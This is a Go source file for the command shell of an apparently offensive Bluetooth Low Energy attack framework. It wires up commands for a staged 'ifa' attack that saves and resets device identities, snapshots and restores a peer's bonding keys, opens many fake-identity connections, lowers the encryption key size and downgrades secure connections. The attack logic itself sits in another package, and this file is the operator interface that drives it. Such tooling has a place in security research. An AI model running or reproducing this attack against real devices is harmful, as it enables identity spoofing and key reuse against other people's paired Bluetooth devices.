package shell

import (
	"context"
	"errors"
	"fmt"
	"strconv"
	"strings"

	"github.com/chaz8081/bleframework/internal/ble"
	"github.com/chaz8081/bleframework/internal/ble/session"
	"github.com/chaz8081/bleframework/internal/ifa"
)

// incomer is implemented by stacks that can play the remote central, such
// as the simulator.
type incomer interface {
	Incoming(addr ble.Address, pair bool) (ble.Conn, error)
}

var errUsage = errors.New("wrong arguments")

func usageError(name, usage string) error {
	return fmt.Errorf("%w, usage: %s %s", errUsage, name, usage)
}

func (s *Shell) registry() map[string]command {
	cmds := map[string]command{
		"help":             {"", "Show this help", s.cmdHelp},
		"init":             {"", "Enable the stack and load settings", s.cmdInit},
		"scan":             {"start|stop", "Start or stop scanning", s.cmdScan},
		"advertise":        {"start|stop", "Start or stop connectable advertising", s.cmdAdvertise},
		"connect":          {"<addr> <type>", "Connect to a peer", s.cmdConnect},
		"disconnect":       {"", "Disconnect the default connection", s.cmdDisconnect},
		"security":         {"[1-4]", "Elevate security on the default connection", s.cmdSecurity},
		"pair":             {"<addr> <type>", "Connect and pair", s.cmdPair},
		"bonds":            {"", "List bonded devices", s.cmdBonds},
		"unpair":           {"all|<addr> <type>", "Delete bonding material", s.cmdUnpair},
		"reset":            {"[id]", "Reset an identity to a fresh random value", s.cmdReset},
		"id_save":          {"", "Save the current identity", s.cmdIDSave},
		"id_restore":       {"", "Restore the saved identity", s.cmdIDRestore},
		"snapshot_take":    {"<addr> <type>", "Snapshot the keys of a peer", s.cmdSnapshotTake},
		"snapshot_restore": {"", "Restore the key snapshot", s.cmdSnapshotRestore},
		"stage1":           {"<addr> <type>", "Stage 1 as central: save, pair, snapshot, unpair", s.cmdStage1},
		"stage1_periph":    {"", "Stage 1 as peripheral, on the incoming connection", s.cmdStage1Periph},
		"stage2":           {"<addr> <type> <n>", "Stage 2: n fake identity connections", s.cmdStage2},
		"stage2_1_periph":  {"", "Stage 2 peripheral: fresh identity and advertise", s.cmdStage2Reset},
		"stage2_2_periph":  {"", "Stage 2 peripheral: release the incoming central", s.cmdStage2Release},
		"stage3":           {"", "Stage 3: restore identity and keys, reload the stack", s.cmdStage3},
		"stage4":           {"[<addr> <type>]", "Stage 4: reconnect with the restored keys", s.cmdStage4},
		"ifa":              {"<addr> <type> <n>", "Run stages 1 to 4", s.cmdAttack},
		"keysize":          {"[true|false|7..16]", "Show or set the encryption key size", s.cmdKeySize},
		"sc_downgrade":     {"[true|false]", "Show or set the secure connections downgrade", s.cmdSCDowngrade},
		"role":             {"[central|peripheral]", "Show or set the attack role", s.cmdRole},
		"status":           {"", "Show identity, vault and connection state", s.cmdStatus},
	}
	if _, ok := s.stack.(incomer); ok {
		cmds["incoming"] = command{"<addr> <type> [nopair]", "Simulate a central connecting to us", s.cmdIncoming}
	}
	return cmds
}

func parseAddr(args []string) (ble.Address, error) {
	if len(args) < 2 {
		return ble.Address{}, errors.New("both address and address type needed")
	}
	return ble.ParseAddress(args[0], args[1])
}

func (s *Shell) cmdHelp(context.Context, []string) error {
	s.printHelp()
	return nil
}

func (s *Shell) cmdInit(context.Context, []string) error {
	if err := s.stack.Enable(); err != nil {
		return fmt.Errorf("bluetooth init failed: %w", err)
	}
	if err := s.stack.LoadSettings(); err != nil {
		return fmt.Errorf("settings load failed: %w", err)
	}
	ident, err := s.stack.Identity(s.attack.ID())
	if err != nil {
		return err
	}
	s.println("Bluetooth initialized")
	s.printf("Identity: %s\n", ident)
	return nil
}

func (s *Shell) cmdScan(_ context.Context, args []string) error {
	if len(args) != 1 {
		return usageError("scan", "start|stop")
	}
	switch args[0] {
	case "start":
		return s.StartScan()
	case "stop":
		if !s.StopScan() {
			return errors.New("scan not running")
		}
		s.println("Scan successfully stopped")
		return nil
	}
	return usageError("scan", "start|stop")
}

// StartScan reports each newly seen device until StopScan.
func (s *Shell) StartScan() error {
	s.scanMu.Lock()
	defer s.scanMu.Unlock()
	if s.scanCancel != nil {
		return errors.New("scan already running")
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	s.scanCancel, s.scanDone = cancel, done

	seen := make(map[ble.Address]bool)
	go func() {
		defer close(done)
		err := s.stack.Scan(ctx, func(r ble.ScanResult) {
			if seen[r.Addr] {
				return
			}
			seen[r.Addr] = true
			s.printf("[DEVICE]: %s, AD evt type %d, AD data len %d, RSSI %d\n", r.Addr, r.AdvType, r.DataLen, r.RSSI)
		})
		if err != nil {
			s.printf("Scan failed: %v\n", err)
		}
	}()
	s.println("Scanning successfully started")
	return nil
}

// StopScan stops a running scan and reports whether one was running.
func (s *Shell) StopScan() bool {
	s.scanMu.Lock()
	cancel, done := s.scanCancel, s.scanDone
	s.scanCancel, s.scanDone = nil, nil
	s.scanMu.Unlock()
	if cancel == nil {
		return false
	}
	cancel()
	<-done
	return true
}

func (s *Shell) cmdAdvertise(_ context.Context, args []string) error {
	if len(args) != 1 {
		return usageError("advertise", "start|stop")
	}
	switch args[0] {
	case "start":
		if err := s.stack.StartAdvertising(); err != nil {
			return err
		}
		s.println("Advertising started")
	case "stop":
		if err := s.stack.StopAdvertising(); err != nil {
			return err
		}
		s.println("Advertising stopped")
	default:
		return usageError("advertise", "start|stop")
	}
	return nil
}

func (s *Shell) cmdConnect(ctx context.Context, args []string) error {
	peer, err := parseAddr(args)
	if err != nil {
		return err
	}
	s.attack.Lock()
	defer s.attack.Unlock()
	s.println("Connection pending")
	sess, err := s.attack.Sessions().Connect(ctx, peer)
	if err != nil {
		return err
	}
	s.printf("Connected: %s\n", sess.Peer())
	return nil
}

// defaultSession returns the live session, adopting the tracker's current
// connection when no session owns it yet.
func (s *Shell) defaultSession() (*session.Session, error) {
	m := s.attack.Sessions()
	if sess := m.Live(); sess != nil {
		return sess, nil
	}
	c := s.attack.Tracker().Current()
	if c == nil {
		return nil, ble.ErrNotConnected
	}
	return m.Adopt(c)
}

func (s *Shell) cmdDisconnect(ctx context.Context, _ []string) error {
	s.attack.Lock()
	defer s.attack.Unlock()
	sess, err := s.defaultSession()
	if err != nil {
		return err
	}
	if err := s.attack.Sessions().Disconnect(ctx, sess); err != nil {
		return err
	}
	s.printf("Disconnected: %s\n", sess.Peer())
	return nil
}

func parseLevel(args []string) (ble.SecurityLevel, error) {
	if len(args) == 0 {
		return ble.DefaultSecurity, nil
	}
	n, err := strconv.Atoi(args[0])
	if err != nil || n < int(ble.SecurityL1) || n > int(ble.SecurityL4) {
		return 0, &ifa.ValidationError{Field: "security level", Value: args[0], Reason: "want 1..4"}
	}
	return ble.SecurityLevel(n), nil
}

func (s *Shell) cmdSecurity(ctx context.Context, args []string) error {
	level, err := parseLevel(args)
	if err != nil {
		return err
	}
	s.attack.Lock()
	defer s.attack.Unlock()
	sess, err := s.defaultSession()
	if err != nil {
		return err
	}
	if err := s.attack.Sessions().ElevateSecurity(ctx, sess, level); err != nil {
		return err
	}
	s.printf("Security changed: %s level %d\n", sess.Peer(), sess.Level())
	return nil
}

func (s *Shell) cmdPair(ctx context.Context, args []string) error {
	peer, err := parseAddr(args)
	if err != nil {
		return err
	}
	s.attack.Lock()
	defer s.attack.Unlock()
	m := s.attack.Sessions()
	sess, err := m.Connect(ctx, peer)
	if err != nil {
		return err
	}
	s.printf("Connected: %s\n", sess.Peer())
	if err := m.ElevateSecurity(ctx, sess, ble.DefaultSecurity); err != nil {
		return err
	}
	if sess.Bonded() {
		s.printf("Bonded with %s\n", sess.Peer())
	} else {
		s.printf("Paired with %s\n", sess.Peer())
	}
	return nil
}

func (s *Shell) cmdBonds(context.Context, []string) error {
	bonds, err := s.stack.Bonds(s.attack.ID())
	if err != nil {
		return err
	}
	s.println("Bonded devices:")
	for _, b := range bonds {
		mode := "legacy"
		if b.SecureConnections {
			mode = "secure connections"
		}
		s.printf("  %s key size %d, %s\n", b.Peer, b.KeySize, mode)
	}
	s.printf("Total %d\n", len(bonds))
	return nil
}

func (s *Shell) cmdUnpair(_ context.Context, args []string) error {
	if len(args) == 0 {
		return usageError("unpair", "all|<addr> <type>")
	}
	s.attack.Lock()
	defer s.attack.Unlock()
	if args[0] == "all" {
		if err := s.attack.Sessions().Unpair(nil); err != nil {
			return err
		}
		s.println("Pairings successfully cleared")
		return nil
	}
	peer, err := parseAddr(args)
	if err != nil {
		return err
	}
	if err := s.attack.Sessions().Unpair(&peer); err != nil {
		return err
	}
	s.printf("Pairing successfully cleared for %s\n", peer)
	return nil
}

func (s *Shell) cmdReset(_ context.Context, args []string) error {
	id := s.attack.ID()
	if len(args) > 0 {
		n, err := strconv.ParseUint(args[0], 10, 8)
		if err != nil {
			return &ifa.ValidationError{Field: "identity id", Value: args[0], Reason: "want 0..255"}
		}
		id = uint8(n)
	}
	s.attack.Lock()
	defer s.attack.Unlock()
	if err := s.attack.ResetIdentity(id); err != nil {
		return err
	}
	ident, err := s.stack.Identity(id)
	if err != nil {
		return err
	}
	s.printf("Identity reset: %s\n", ident)
	return nil
}

func (s *Shell) cmdIDSave(context.Context, []string) error {
	s.attack.Lock()
	defer s.attack.Unlock()
	ident, err := s.attack.Vault().SaveIdentity()
	if err != nil {
		return err
	}
	s.printf("Got addr: %s, and irk 0x%s\n", ident.Addr, ident.IRK)
	return nil
}

func (s *Shell) cmdIDRestore(context.Context, []string) error {
	s.attack.Lock()
	defer s.attack.Unlock()
	ident, err := s.attack.Vault().RestoreIdentity()
	if err != nil {
		return err
	}
	s.printf("Identity reset to old values: %s\n", ident)
	return nil
}

func (s *Shell) cmdSnapshotTake(_ context.Context, args []string) error {
	peer, err := parseAddr(args)
	if err != nil {
		return err
	}
	s.attack.Lock()
	defer s.attack.Unlock()
	if err := s.attack.Vault().TakeKeySnapshot(peer); err != nil {
		return err
	}
	s.printf("Key snapshot taken for %s\n", peer)
	return nil
}

func (s *Shell) cmdSnapshotRestore(context.Context, []string) error {
	s.attack.Lock()
	defer s.attack.Unlock()
	if err := s.attack.Vault().RestoreKeySnapshot(); err != nil {
		return err
	}
	s.println("Key snapshot restored")
	return nil
}

// report prints a stage report and passes its error through.
func (s *Shell) report(rep *ifa.Report, err error) error {
	if rep != nil {
		s.println(rep.String())
	}
	if err == nil && rep != nil {
		s.printf("%s complete\n", rep.Stage)
	}
	return err
}

func (s *Shell) cmdStage1(ctx context.Context, args []string) error {
	peer, err := parseAddr(args)
	if err != nil {
		return err
	}
	s.attack.SetRole(ifa.Central)
	return s.report(s.attack.Stage1(ctx, peer))
}

func (s *Shell) cmdStage1Periph(ctx context.Context, _ []string) error {
	s.attack.SetRole(ifa.Peripheral)
	return s.report(s.attack.Stage1(ctx, ble.Address{}))
}

func parseCount(args []string, name string) (ble.Address, int, error) {
	if len(args) != 3 {
		return ble.Address{}, 0, usageError(name, "<addr> <type> <n>")
	}
	peer, err := parseAddr(args)
	if err != nil {
		return ble.Address{}, 0, err
	}
	n, err := ifa.ParseCount(args[2])
	if err != nil {
		return ble.Address{}, 0, err
	}
	return peer, n, nil
}

func (s *Shell) cmdStage2(ctx context.Context, args []string) error {
	peer, n, err := parseCount(args, "stage2")
	if err != nil {
		return err
	}
	s.attack.SetRole(ifa.Central)
	return s.report(s.attack.Stage2(ctx, peer, n))
}

func (s *Shell) cmdStage2Reset(ctx context.Context, _ []string) error {
	s.attack.SetRole(ifa.Peripheral)
	return s.report(s.attack.Stage2Reset(ctx))
}

func (s *Shell) cmdStage2Release(ctx context.Context, _ []string) error {
	s.attack.SetRole(ifa.Peripheral)
	return s.report(s.attack.Stage2Release(ctx))
}

func (s *Shell) cmdStage3(ctx context.Context, _ []string) error {
	return s.report(s.attack.Stage3(ctx))
}

func (s *Shell) cmdStage4(ctx context.Context, args []string) error {
	var peer ble.Address
	if s.attack.Role() == ifa.Central || len(args) > 0 {
		p, err := parseAddr(args)
		if err != nil {
			return err
		}
		peer = p
	}
	return s.report(s.attack.Stage4(ctx, peer))
}

func (s *Shell) cmdAttack(ctx context.Context, args []string) error {
	peer, n, err := parseCount(args, "ifa")
	if err != nil {
		return err
	}
	s.attack.SetRole(ifa.Central)
	return s.report(s.attack.Attack(ctx, peer, n))
}

func (s *Shell) cmdKeySize(_ context.Context, args []string) error {
	if len(args) == 0 {
		s.printf("Encryption key size: %d\n", s.attack.Settings().KeySize)
		return nil
	}
	n, err := s.attack.SetKeySize(args[0])
	if err != nil {
		return err
	}
	s.printf("Encryption key size set to %d\n", n)
	return nil
}

func (s *Shell) cmdSCDowngrade(_ context.Context, args []string) error {
	if len(args) == 0 {
		s.printf("Secure connections downgrade: %t\n", s.attack.Settings().SCDowngrade)
		return nil
	}
	on, err := ifa.ParseBool(args[0])
	if err != nil {
		return err
	}
	if err := s.attack.SetSCDowngrade(on); err != nil {
		return err
	}
	s.printf("Secure connections downgrade set to %t\n", on)
	return nil
}

func (s *Shell) cmdRole(_ context.Context, args []string) error {
	if len(args) == 0 {
		s.printf("Role: %s\n", s.attack.Role().Name())
		return nil
	}
	r, err := ifa.ParseRole(args[0])
	if err != nil {
		return err
	}
	s.attack.SetRole(r)
	s.printf("Role set to %s\n", r.Name())
	return nil
}

func (s *Shell) cmdStatus(context.Context, []string) error {
	var b strings.Builder
	if ident, err := s.stack.Identity(s.attack.ID()); err != nil {
		fmt.Fprintf(&b, "Identity: unavailable (%v)\n", err)
	} else {
		fmt.Fprintf(&b, "Identity: %s\n", ident)
	}
	fmt.Fprintf(&b, "Role: %s\n", s.attack.Role().Name())
	set := s.attack.Settings()
	fmt.Fprintf(&b, "Key size: %d, SC downgrade: %t\n", set.KeySize, set.SCDowngrade)

	if ident, ok := s.attack.Vault().SavedIdentity(); ok {
		fmt.Fprintf(&b, "Saved identity: %s\n", ident.Addr)
	} else {
		fmt.Fprintln(&b, "Saved identity: none")
	}
	if snap, ok := s.attack.Vault().Snapshot(); ok {
		fmt.Fprintf(&b, "Key snapshot: %s\n", snap.Peer)
	} else {
		fmt.Fprintln(&b, "Key snapshot: none")
	}
	if sess := s.attack.Sessions().Live(); sess != nil {
		fmt.Fprintf(&b, "Connection: %s (%s) level %d\n", sess.Peer(), sess.Role(), sess.Level())
	} else if c := s.attack.Tracker().Current(); c != nil {
		fmt.Fprintf(&b, "Connection: %s (%s)\n", c.Dst(), c.Role())
	} else {
		fmt.Fprintln(&b, "Connection: none")
	}
	s.printf("%s", b.String())
	return nil
}

func (s *Shell) cmdIncoming(_ context.Context, args []string) error {
	peer, err := parseAddr(args)
	if err != nil {
		return err
	}
	pair := !(len(args) > 2 && args[2] == "nopair")
	if _, err := s.stack.(incomer).Incoming(peer, pair); err != nil {
		return err
	}
	s.printf("Incoming connection from %s\n", peer)
	return nil
}
